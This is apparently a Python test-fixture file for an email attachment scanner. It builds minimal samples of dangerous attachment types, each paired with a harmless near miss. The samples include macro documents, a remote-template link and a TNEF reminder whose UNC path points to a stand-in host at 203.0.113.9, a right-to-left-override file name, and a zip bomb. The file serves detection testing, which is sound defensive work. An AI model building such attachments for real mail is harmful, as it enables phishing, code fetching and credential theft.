"""Dangerous attachments: the least octets by which each kind is known.  None does anything."""
import io
import struct
import zipfile

from scene import attached, mail, near, scene


def pe():
    """An MZ header that points to a PE header, which describes nothing."""
    return b'MZ' + b'\0' * 58 + struct.pack('<I', 64) + b'PE\0\0' + struct.pack('<H',
                                                                                0x14c) + b'\0' * 200


def lnk():
    """A shell link's header (MS-SHLLINK, 2.1), with no target."""
    return struct.pack('<I', 0x4c) + bytes.fromhex('0114020000000000c000000000000046') + b'\0' * 56


def zipped(*members, encrypted=False):
    """encrypted: bit 0 of the flags is set, as if the octets were; they are not."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, 'w', zipfile.ZIP_DEFLATED) as archive:
        for name, octets in members:
            info = zipfile.ZipInfo(name, (2026, 1, 5, 8, 0, 0))
            archive.writestr(info, octets, zipfile.ZIP_DEFLATED)
    octets = bytearray(out.getvalue())
    if encrypted:
        octets[6] |= 1
        octets[octets.index(b'PK\1\2') + 8] |= 1
    return bytes(octets)


def ole(*streams):
    """A compound file (MS-CFB) of two sectors: the FAT, a directory with these empty entries."""
    head = bytes.fromhex('d0cf11e0a1b11ae1') + b'\0' * 16 + struct.pack(
        '<HHHHH', 0x3e, 3, 0xfffe, 9, 6)
    head += b'\0' * 10 + struct.pack('<IIIIIIII', 1, 1, 0, 4096, 0xfffffffe, 0, 0xfffffffe, 0)
    head += struct.pack('<I', 0) + b'\xff' * (512 - len(head) - 4)
    fat = struct.pack('<II', 0xfffffffd, 0xfffffffe) + b'\xff' * 504
    directory = b''
    for kind, name in [(5, 'Root Entry')] + [(1 if s.isupper() else 2, s) for s in streams]:
        text = name.encode('utf-16-le') + b'\0\0'
        directory += (text.ljust(64, b'\0') + struct.pack('<HBB', len(text), kind, 1) +
                      struct.pack('<III', 0xffffffff, 0xffffffff, 1 if kind == 5 else 0xffffffff) +
                      b'\0' * 36 + struct.pack('<IQ', 0xfffffffe, 0))
    return head + fat + directory.ljust(512, b'\0')


def ooxml(*extra):
    types = '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>'
    return zipped(('[Content_Types].xml', types), ('word/document.xml', '<w:document/>'), *extra)


def pdf(extra):
    return (
        '%PDF-1.4\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R ' + extra + ' >>\nendobj\n'
        '2 0 obj\n<< /Type /Pages /Kids [] /Count 0 >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n'
    )


OPEN = '/OpenAction << /S /JavaScript /JS (var x = 1;) >>'
REMOTE = ('<Relationships><Relationship Id="r1" Type="attachedTemplate" TargetMode="External" '
          'Target="http://203.0.113.9/x.dotm"/></Relationships>')
ISO = b'\0' * 32768 + b'\1CD001\1\0' + b'\0' * 100

# name of the scene, what, file name, octets, findings; and its near miss: what, name, octets
ROWS = (
    ('attach-executable', 'a PE header', 'setup.exe', pe(), ['attach.executable'],
     'a text that begins with MZ', 'notes.txt', b'MZ is how a program begins.\n'),
    ('attach-executable-renamed', 'a PE header called .pdf', 'invoice.pdf', pe(),
     ['attach.executable',
      'attach.type_mismatch'], 'a PDF called .pdf', 'invoice.pdf', pdf('').encode()),
    ('attach-shortcut', 'a shell link', 'document.lnk', lnk(), ['attach.executable'],
     'a text called .txt', 'document.txt', b'L is for link.\n'),
    ('attach-shortcut-zipped', 'a shell link in an archive', 'documents.zip',
     zipped(('document.lnk', lnk())), ['attach.executable'], 'texts in an archive', 'documents.zip',
     zipped(('document.txt', 'x\n'))),
    ('attach-script', 'JavaScript', 'invoice.js', b'var x = 1;\n', ['attach.script'],
     'a text about it', 'invoice.txt', b'var x = 1;\n'),
    ('attach-container', 'an image of a disc', 'documents.iso', ISO, ['attach.container'], 'zeros',
     'zeros.bin', b'\0' * 33000),
    ('attach-macro-ole', 'a compound file with a VBA storage', 'report.doc',
     ole('WordDocument', 'VBA',
         '_VBA_PROJECT'), ['attach.macro'], 'a compound file without', 'report.doc',
     ole('WordDocument', '1Table')),
    ('attach-macro-ooxml', 'OOXML with vbaProject.bin', 'report.docm',
     ooxml(('word/vbaProject.bin', ole('VBA'))), ['attach.macro'], 'OOXML without', 'report.docx',
     ooxml()),
    ('attach-macro-template', 'OOXML whose template is elsewhere', 'report.docx',
     ooxml(('word/_rels/settings.xml.rels', REMOTE)), ['attach.macro'], 'OOXML with a link in it',
     'report.docx',
     ooxml(('word/_rels/document.xml.rels', REMOTE.replace('attachedTemplate', 'hyperlink')))),
    ('attach-encrypted', 'an encrypted archive, the password in the text', 'documents.zip',
     zipped(('document.txt', 'x\n'),
            encrypted=True), ['attach.encrypted_archive'], 'an archive', 'documents.zip',
     zipped(('document.txt', 'x\n'))),
    ('attach-pdf-active', 'a PDF that runs JavaScript when opened', 'form.pdf', pdf(OPEN).encode(),
     ['attach.pdf_active'], 'a PDF that speaks of it', 'form.pdf',
     pdf('/Title (How JavaScript runs in OpenAction)').encode()),
    ('attach-double-extension', 'two extensions', 'invoice.pdf.exe', pe(),
     ['attach.double_ext',
      'attach.executable'], 'a date in the name', 'invoice.2026.pdf', pdf('').encode()),
    ('attach-rtlo', 'a name turned around by U+202E', 'invoice\u202efdp.exe', pe(),
     ['attach.rtlo', 'attach.executable'], 'a Hebrew name with a mark (U+200F)',
     '\u05d7\u05e9\u05d1\u05d5\u05df\u200f.pdf', pdf('').encode()),
    ('attach-nested', 'archives ten deep', 'deep.zip', None, ['attach.bomb'],
     'an archive in an archive', 'two.zip', zipped(('one.zip', zipped(('x.txt', 'x\n'))))),
    ('attach-bomb', 'ten megabytes of zeros in ten kilobytes', 'zeros.zip',
     zipped(('zeros', b'\0' * 10_000_000)), ['attach.bomb'], 'a text that packs well', 'text.zip',
     zipped(('text.txt', 'a line of text\n' * 400))),
    ('attach-svg', 'an SVG with a script', 'logo.svg',
     b'<svg xmlns="http://www.w3.org/2000/svg" onload="var x = 1"><script>var x = 1</script></svg>',
     ['attach.script'
      ], 'an SVG', 'logo.svg', b'<svg xmlns="http://www.w3.org/2000/svg"><path d="M0 0"/></svg>'),
)


def deep():
    octets = zipped(('x.txt', 'x\n'))
    for n in range(10):
        octets = zipped((f'{n}.zip', octets))
    return octets


def file_scene(name, what, file_name, content, finds, near_what, near_name, near_content):

    @scene(name, what, finds)
    def dangerous(capture):
        subject = 'The password is correct-horse' if 'encrypted' in name else 'Documents'
        mail(capture, attached(file_name, deep() if content is None else content, subject=subject))

    @near(name, near_what)
    def harmless(capture):
        mail(capture, attached(near_name, near_content))


for row in ROWS:
    file_scene(*row)


@scene('attach-tnef-unc', "a reminder's sound on a share (CVE-2023-23397), in TNEF",
       ['attach.tnef_unc'])
def tnef(capture):
    path = '\\\\203.0.113.9\\share\\x.wav\0'.encode('utf-16-le')
    properties = struct.pack('<I', 1) + struct.pack('<HH', 0x001f,
                                                    0x851f) + b'\0' * 16 + struct.pack('<II', 0, 1)
    properties += struct.pack('<I', len(path)) + path
    octets = struct.pack('<IH', 0x223e9f78, 1) + struct.pack('<BII', 1, 0x00069003,
                                                             len(properties)) + properties
    mail(capture, attached('winmail.dat', octets + b'\0\0', 'application/ms-tnef'))


@near('attach-tnef-unc', 'TNEF with a title')
def tnef_title(capture):
    octets = struct.pack('<IH', 0x223e9f78, 1) + struct.pack('<BII', 1, 0x00018004,
                                                             6) + b'Hello\0' + b'\0\0'
    mail(capture, attached('winmail.dat', octets, 'application/ms-tnef'))
